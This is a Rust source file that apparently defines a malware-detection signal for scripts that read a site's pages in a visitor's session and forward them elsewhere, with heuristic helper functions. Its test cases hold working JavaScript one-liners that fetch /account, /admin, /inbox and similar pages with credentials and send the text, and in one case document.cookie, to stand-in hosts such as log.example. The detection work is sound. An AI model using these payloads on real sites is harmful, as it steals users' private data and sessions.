//! `page-read-for-stranger`.

use crate::facts::Atom;
use crate::signals::near::{Near, is_own_address};
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "page-read-for-stranger",
    description: "The script reads a page of this site in the visitor's session and sends its text to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::PageTextWrapped, Atom::PageTextForwarded, Atom::PageDataForwarded]),
        one(&[Atom::SentAbroad, Atom::SentAway, Atom::Navigation]),
    ],
    within: 80,
    only_if: Some(reads_site),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"setInterval(async()=>{const r=await fetch('http://cats.example',{cache:'no-store'});const t=await r.text();fetch('http://10.6.0.5/log',{method:'post',body:t})},2000)"#,
            r#"fetch('/me',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('https://log.example/p',{method:'POST',mode:'no-cors',body:t}))"#,
            r#"fetch('/account',{credentials:'include'}).then(r=>r.text()).then(t=>{location='https://log.example/?k='+encodeURIComponent(t)})"#,
            r#"var q=new XMLHttpRequest;q.onload=function(){new Image().src='//log.example/x?d='+btoa(this.responseText)};q.open('get','/details',true);q.withCredentials=true;q.send()"#,
            r#"fetch('/account').then(r=>r.text()).then(t=>fetch('https://log.example/',{method:'POST',body:t}))"#,
            r#"fetch('/inbox').then(r=>r.text()).then(t=>{navigator.sendBeacon('https://log.example/p',t)})"#,
            r#"var a=new XMLHttpRequest();a.onload=function(){var b=new XMLHttpRequest();b.open('POST','https://log.example/l');b.send(a.responseText)};a.open('GET','/profile');a.send()"#,
            r#"(async()=>{let r=await fetch('/api/me',{credentials:'include'});let d=await r.json();await fetch('https://log.example/d',{method:'POST',body:JSON.stringify(d)})})()"#,
            r#"fetch('http://127.0.0.1:8080/notes').then(r=>r.text()).then(d=>{fetch('http://10.9.8.7:8000/?n='+encodeURIComponent(d))})"#,
            r#"async function hand(to){const r=await fetch('/admin',{credentials:'include'});const t=await r.text();const p=encodeURIComponent(t);document.location=`${to}?p=${p}&c=${encodeURIComponent(document.cookie)}`}"#,
            r#"var a=new XMLHttpRequest();a.open('GET','/admin',false);a.send();var b=new XMLHttpRequest();b.open('GET','https://log.example/?r='+btoa(a.responseText),false);b.send()"#,
        ],
        without: &[
            r#"fetch('/readme.md').then(r=>r.text()).then(t=>fetch('https://render.example/markdown',{method:'POST',body:t}))"#,
            r#"fetch('/price').then(r=>r.json()).then(d=>fetch('https://shop.example/d',{method:'POST',body:JSON.stringify(d)}))"#,
            r#"async function open(to){const r=await fetch('/doc',{credentials:'include'});const t=await r.text();document.location=`${to}?p=${encodeURIComponent(t)}`}"#,
            r#"fetch('http://localhost:3000/a').then(r=>r.text()).then(d=>{fetch('http://localhost:4000/?n='+encodeURIComponent(d))})"#,
            r#"fetch('/logo.svg').then(r=>r.text()).then(t=>{img.src='data:image/svg+xml;base64,'+btoa(t)})"#,
            r#"fetch('https://api.example/ip').then(r=>r.text()).then(t=>fetch('https://geo.example/?ip='+encodeURIComponent(t)))"#,
        ],
    },
};

fn reads_site(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 140);
    let read = |is: fn(&str) -> bool| {
        near.words(&["fetch", "open", "get"]).any(|at| {
            near.is(at + 1, b'(')
                && (at + 2..at + 5)
                    .any(|at| matches!(near.kind(at), Some(Kind::Str | Kind::Template)) && is(near.word(at)))
        })
    };
    let own = read(is_own_address);
    let session = near.has_word(&["withCredentials"]) || near.has(&["include"]);
    let wrapped = Near::is_place_of(evidence, held, &[Atom::PageTextWrapped]);
    if !near.has_fact(&[Atom::SentAbroad, Atom::SentAway]) {
        // Whoever calls says where the visitor goes, with the page and all cookies in the address.
        return wrapped && own && session && near.has_fact(&[Atom::AllCookies]);
    }
    if wrapped {
        return own || session || read(is_of_machine) && near.texts().any(|(_, text)| is_of_other(&text));
    }
    if Near::is_place_of(evidence, held, &[Atom::PageTextForwarded]) {
        // What is handed on as it is may be on its way to a service. It is not if it is a page of the site. Nor is it if nobody
        // looks at the answer, and it is the site's own or read with a session. Nor is it if the script reads it afresh again
        // and again, from whatever host the name stands for.
        return read(is_own_page)
            || near.has(&["no-cors"]) && (own || session)
            || near.has(&["no-store"]) && near.has_fact(&[Atom::Repeat]);
    }
    own && session
}

/// Whether an address of the site is that of a page: files have endings.
fn is_own_page(address: &str) -> bool {
    let path = address.split(['?', '#']).next().unwrap_or(address);
    is_own_address(address) && path.len() > 1 && !path.rsplit('/').next().unwrap_or(path).contains('.')
}

/// Whether an address is one of this machine or of the network at home, which no other host may read.
fn is_of_machine(address: &str) -> bool {
    host(address).is_some_and(is_private)
}

fn is_of_other(address: &str) -> bool {
    host(address).is_some_and(|host| !is_loopback(host) && !host.is_empty())
}

fn host(address: &str) -> Option<&str> {
    let rest = ["http://", "https://"].iter().find_map(|scheme| address.strip_prefix(scheme))?;
    Some(rest.split(['/', '?', '#']).next().unwrap_or(rest))
}

fn is_loopback(host: &str) -> bool {
    ["localhost", "127.", "0.0.0.0", "[::1]"].iter().any(|own| host.starts_with(own))
}

fn is_private(host: &str) -> bool {
    is_loopback(host) || ["192.168.", "10.", "172.16.", "169.254."].iter().any(|net| host.starts_with(net))
}
